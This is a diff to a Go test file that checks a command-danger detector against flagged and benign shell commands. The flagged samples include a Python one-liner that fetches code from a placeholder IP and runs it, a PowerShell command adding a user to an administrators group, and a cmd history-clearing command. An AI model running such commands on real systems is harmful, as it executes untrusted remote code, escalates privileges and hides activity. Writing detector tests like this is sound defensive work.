@@ -587,3 +587,21 @@ func TestSqlServerRestoresAndSavedLogins(t *testing.T) {
 	})
 	checkSafe(t, d, cmdc, []string{`sqlcmd -S sql02 -Q "RESTORE VERIFYONLY FROM DISK='D:\bak\b.bak'"`})
 }
+
+func TestScriptsRunningDownloadsAndWindowsGroups(t *testing.T) {
+	d := NewDetector(Options{})
+	checkDanger(t, d, corpusContext, []dangerCase{
+		{`python3 -c "import os,urllib.request as u;os.system(u.urlopen('https://198.51.100.5/c').read().decode())"`, CategoryRemoteExec, "", LevelCritical},
+	})
+	checkSafe(t, d, corpusContext, []string{
+		`python3 -c "import urllib.request as u;print(u.urlopen('https://example.com/health').status)"`,
+	})
+	ps := winCorpusContextFor("powershell")
+	cmdc := winCorpusContextFor("cmd")
+	checkDanger(t, d, ps, []dangerCase{
+		{`Add-LocalGroupMember -Group 'Hyper-V Administrators' -Member dev`, CategoryPrivilege, "win-admin-group", LevelHigh},
+	})
+	checkSafe(t, d, ps, []string{`Get-LocalGroupMember -Group docker-users`, `Clear-History`})
+	checkDanger(t, d, cmdc, []dangerCase{{`doskey /reinstall`, CategoryHistoryTamper, "win-history-clear", LevelModerate}})
+	checkSafe(t, d, cmdc, []string{`doskey /history`})
+}
